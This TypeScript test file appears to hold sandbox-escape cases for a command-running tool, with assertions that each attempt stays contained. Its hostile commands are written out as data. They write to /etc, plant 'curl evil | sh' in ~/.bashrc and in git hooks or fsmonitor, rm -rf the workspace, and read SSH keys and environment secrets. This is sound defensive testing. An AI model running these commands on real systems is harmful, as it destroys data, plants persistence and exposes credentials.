// Filesystem escapes: writes outside the workspace (~, /etc, .., symlinks, absolute
// paths, /proc, /sys, devices), deleting the workspace, secrets in home, git internals.
import assert from 'node:assert/strict';
import { existsSync, promises as fs, readFileSync } from 'node:fs';
import { randomBytes } from 'node:crypto';
import os from 'node:os';
import path from 'node:path';
import type { CatalogueCase } from './cases';

const tag = randomBytes(4).toString('hex');
const hostPath = (p: string) => () => assert.equal(existsSync(p), false, `${p} appeared on the host`);

export const filesystemCases: CatalogueCase[] = [
  { name: 'write to /etc', command: `echo pwn > /etc/tandem-${tag}`, check: hostPath(`/etc/tandem-${tag}`) },
  { name: 'write to /usr/local/bin', command: `echo pwn > /usr/local/bin/tandem-${tag}`, check: hostPath(`/usr/local/bin/tandem-${tag}`) },
  { name: 'write to the real home (~)', command: `echo pwn > ~/tandem-${tag}; echo pwn > "${os.homedir()}/tandem-${tag}"`, check: hostPath(path.join(os.homedir(), `tandem-${tag}`)) },
  { name: 'append to the real ~/.bashrc', command: `echo 'curl evil | sh' >> "${os.homedir()}/.bashrc"`, check: () => {
    const rc = path.join(os.homedir(), '.bashrc');
    if (existsSync(rc)) assert.doesNotMatch(readFileSync(rc, 'utf8'), /curl evil/);
  } },
  { name: 'write into the (fake) home beside the workspace', command: (h) => `echo pwn > "${h.home}/evil"`, check: (h) => hostPath(path.join(h.home, 'evil'))() },
  { name: 'overwrite a sentinel through ..', command: 'echo pwn > ../outside/sentinel.txt; cd .. && echo pwn > outside/sentinel.txt' },
  { name: 'overwrite a sentinel by absolute path', command: (h) => `echo pwn > "${h.outside}/sentinel.txt"` },
  { name: 'delete the sentinel directory outside', command: (h) => `rm -rf "${h.outside}"` },
  {
    name: 'write through a symlink created inside',
    command: (h) => `ln -s "${h.outside}" esc && echo pwn > esc/sentinel.txt && echo pwn > esc/new.txt`,
    check: (h) => hostPath(path.join(h.outside, 'new.txt'))(),
  },
  {
    name: 'write through a symlink already in the workspace',
    setup: async (h) => fs.symlink(h.outside, path.join(h.ws, 'link-out')),
    command: 'echo pwn > link-out/sentinel.txt; echo pwn > link-out/new.txt',
    check: (h) => hostPath(path.join(h.outside, 'new.txt'))(),
  },
  {
    name: 'symlink to /etc then write',
    command: `ln -s /etc etc-link && echo pwn > etc-link/tandem-${tag}`,
    check: hostPath(`/etc/tandem-${tag}`),
  },
  {
    name: 'rm -rf the workspace',
    command: 'rm -rf "$PWD"/* "$PWD"/.[!.]* 2>/dev/null; cd / && rm -rf "$OLDPWD"; true',
    check: async (h, r) => {
      assert.ok((r.stagedPaths ?? []).includes('README.md'), 'the deletions are staged for review');
      await h.staging.discardAll();
    },
  },
  { name: 'rm -rf the workspace parent', command: 'rm -rf ..; rm -rf ../..; true' },
  { name: 'write a file in host /tmp', command: `echo pwn > /tmp/tandem-${tag}`, check: hostPath(path.join(os.tmpdir(), `tandem-${tag}`)) },
  { name: 'write to /dev/shm', command: `echo pwn > /dev/shm/tandem-${tag}`, check: hostPath(`/dev/shm/tandem-${tag}`) },
  { name: 'no host block devices', command: 'ls /dev; for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/mem /dev/kmsg; do test -e $d && echo "FOUND $d"; done; true', check: (_h, r) => assert.doesNotMatch(r.output, /FOUND/) },
  { name: 'write a kernel sysctl (core_pattern)', command: 'cat /proc/sys/kernel/core_pattern > /tmp/v; cat /tmp/v > /proc/sys/kernel/core_pattern && echo WROTE', check: (_h, r) => assert.doesNotMatch(r.output, /WROTE/) },
  { name: 'write to /sys and cgroups', command: 'touch /sys/fs/cgroup/x && echo WROTE; echo $$ > /sys/fs/cgroup/cgroup.procs && echo WROTE2; true', check: (_h, r) => assert.doesNotMatch(r.output, /WROTE/) },
  {
    name: 'read ~/.ssh/id_rsa (fake home) and the real ~/.ssh',
    command: (h) => `cat "${h.home}/.ssh/id_rsa"; cat ~/.ssh/* "${os.homedir()}"/.ssh/* 2>/dev/null; ls -a ~`,
    check: (_h, r) => assert.doesNotMatch(r.output, /FAKE-PRIVATE-KEY|PRIVATE KEY/),
  },
  {
    name: 'secrets in the environment',
    baseEnv: { PATH: process.env.PATH, OPENAI_API_KEY: 'sk-cat-secret', GITHUB_TOKEN: 'ghp-cat-secret', AWS_SECRET_ACCESS_KEY: 'aws-cat-secret', MY_SERVICE_API_KEY: 'svc-cat-secret' },
    command: 'env; cat /proc/self/environ | tr "\\0" "\\n"',
    check: (_h, r) => assert.doesNotMatch(r.output, /cat-secret/),
  },
  { name: 'git hook write', command: 'printf "#!/bin/sh\\ncurl evil\\n" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; true', check: (_h, r) => assert.ok(!(r.stagedPaths ?? []).some((p) => p.startsWith('.git/'))) },
  { name: 'git config write', command: 'git config core.fsmonitor "curl evil"; echo "[core] fsmonitor = x" >> .git/config; true', check: (_h, r) => assert.ok(!(r.stagedPaths ?? []).some((p) => p.startsWith('.git/'))) },
  { name: 'chmod and chown workspace files', command: 'chmod 777 README.md src/a.ts; chown 1234 README.md; touch -d 2001-01-01 src/a.ts; true', check: (_h, r) => assert.deepEqual(r.stagedPaths, []) },
];
